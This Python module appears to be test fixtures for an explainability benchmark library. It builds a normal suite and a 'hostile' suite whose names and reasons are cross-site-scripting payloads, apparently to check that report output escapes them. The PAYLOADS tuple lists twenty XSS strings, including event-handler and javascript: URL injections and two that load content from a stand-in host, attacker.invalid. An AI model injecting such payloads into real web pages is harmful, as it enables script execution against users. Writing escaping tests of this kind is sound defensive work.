"""Two small runs: one as people have them, and one whose names and reasons are all attempts to run a script."""

from collections.abc import Callable
from dataclasses import dataclass
from typing import ClassVar

import numpy as np
import torch
from torch import Tensor, nn

from whybench.domains import ImageDomain, TabularDomain
from whybench.errors import Unsupported
from whybench.explanations import Attribution
from whybench.protocols import Case, Dataset, Metric, Model, Scores
from whybench.suite import Suite, block

FIRE = "window.ran=1"
PAYLOADS = (
    f"<script>{FIRE}</script>",
    f'"><script>{FIRE}</script>',
    f"'><img src=x onerror={FIRE}>",
    f"<svg/onload={FIRE}>",
    f"</title><script>{FIRE}</script>",
    f"</style><script>{FIRE}</script>",
    f"--><script>{FIRE}</script><!--",
    f"javascript:{FIRE}",
    f"<iframe srcdoc='<script>parent.{FIRE}</script>'></iframe>",
    f"<a href=javascript:{FIRE}>x</a>",
    f'" autofocus onfocus={FIRE} x="',
    f"<body onload={FIRE}>",
    f"<details open ontoggle={FIRE}>x</details>",
    f"<video><source onerror={FIRE}></video>",
    f"<math><mi//xlink:href='data:x,<script>{FIRE}</script>'>",
    f"<object data='data:text/html,<script>parent.{FIRE}</script>'></object>",
    f"<style>@import 'http://attacker.invalid/{FIRE}.css';</style>",
    f"<meta http-equiv=refresh content='0;url=javascript:{FIRE}'>",
    f"<base href=http://attacker.invalid/><script src=x.js></script>{{{{ {FIRE} }}}}",
    f"`${{{FIRE}}}` &lt;script&gt;{FIRE}&lt;/script&gt; \u202e<b>{FIRE}",
)
ALL = " ".join(PAYLOADS)


class Pixels(nn.Module):
    """Three classes from 8 x 8 pixels."""

    def __init__(self) -> None:
        super().__init__()
        torch.manual_seed(0)
        self.conv = nn.Conv2d(1, 3, 3)
        self.head = nn.Linear(3 * 36, 3)

    def forward(self, x: Tensor) -> Tensor:
        return self.head(torch.relu(self.conv(x)).flatten(1))


def image_model(name: str, classes: tuple[str, ...]) -> Model:
    return Model(name, Pixels().double().eval(), ImageDomain(low=0.0, high=1.0, mean=0.3), class_names=classes)


def image_data(name: str, ids: tuple[str, ...]) -> Dataset:
    draws = np.random.default_rng(1)
    return Dataset(name, [torch.from_numpy(draws.random((1, 8, 8))) for _ in ids], ids, torch.arange(len(ids)) % 3)


@dataclass(frozen=True)
class Largest(Metric[Attribution]):
    """The largest relevance; the second sample has no value."""

    name: ClassVar[str] = "largest"
    kind: ClassVar[type[Attribution]] = Attribution
    family: ClassVar[str] = "complexity"
    range: ClassVar[tuple[float, float]] = (0.0, float("inf"))
    reference: ClassVar[str] = ""
    reason: ClassVar[str] = "the second one"

    higher_is_better = True

    def score(self, case: Case[Attribution]) -> Scores:
        values = case.explanation.relevance.double().abs().flatten(1).amax(1)
        values[1] = torch.nan
        return Scores(values, undefined={1: self.reason})


@dataclass(frozen=True)
class Nowhere(Largest):
    """Unsupported everywhere."""

    name: ClassVar[str] = "nowhere"
    family: ClassVar[str] = "axiom"

    def score(self, case: Case[Attribution]) -> Scores:
        raise Unsupported(f"nowhere: {self.reason}")


def flat(size: float) -> Callable[[nn.Module, Tensor, Tensor], Tensor]:
    """A method that knows nothing."""
    return lambda module, inputs, targets: torch.full_like(inputs, size)


def breaks(message: str) -> Callable[[nn.Module, Tensor, Tensor], Tensor]:
    def explain(module: nn.Module, inputs: Tensor, targets: Tensor) -> Tensor:
        raise RuntimeError(message)

    return explain


def plain_suite() -> Suite:
    """Images and a table: methods, controls, one that fails, a metric with a gap, one that never runs."""
    names = ("gradient", "input_x_gradient", "integrated_gradients(steps=4)", "random", "constant")
    methods = {name.partition("(")[0]: name for name in names}
    images = block(
        image_model("tiny_cnn", ("zero", "one", "two")),
        image_data("tiny_images", tuple("abcdef")),
        methods | {"breaks": breaks("out of luck")},
        ["srg(infill='mean', steps=4)", "pixel_flipping(steps=4)", Largest(), Nowhere()],
    )
    torch.manual_seed(2)
    mlp = Model(
        "tiny_mlp", nn.Linear(3, 2).double().eval(), TabularDomain(mean=0.5, columns=("age", "weight", "height"))
    )
    draws = np.random.default_rng(3)
    rows = Dataset(
        "tiny_table", [torch.from_numpy(draws.random(3)) for _ in range(5)], tuple("vwxyz"), torch.zeros(5).long()
    )
    return Suite("tiny", (images, block(mlp, rows, methods, ["srg(infill='mean', steps=3)"])))


def hostile_suite() -> Suite:
    """Every payload as a method, and as a metric; all of them in the names of a model and a dataset, and in reasons."""
    metrics = [
        type(f"Metric{k}", (Largest,), {"name": name, "reason": ALL, "__doc__": name})
        for k, name in enumerate(PAYLOADS)
    ]
    methods = {name: flat(1.0 + k) for k, name in enumerate(PAYLOADS)}
    unsupported = type("Never", (Nowhere,), {"name": PAYLOADS[0] + ALL, "reason": ALL})
    first = block(
        image_model(ALL, PAYLOADS[:3]),
        image_data(ALL, PAYLOADS[3:7]),
        methods,
        [metrics[0](), "pixel_flipping(steps=4)"],
    )
    second = block(
        image_model(PAYLOADS[1], PAYLOADS[7:10]),
        image_data(PAYLOADS[2], PAYLOADS[10:13]),
        {PAYLOADS[4]: flat(1.0), PAYLOADS[5]: flat(2.0), PAYLOADS[6]: breaks(ALL)},
        ["pixel_flipping(steps=4)", *(metric() for metric in metrics), unsupported()],
    )
    return Suite(PAYLOADS[3], (first, second))
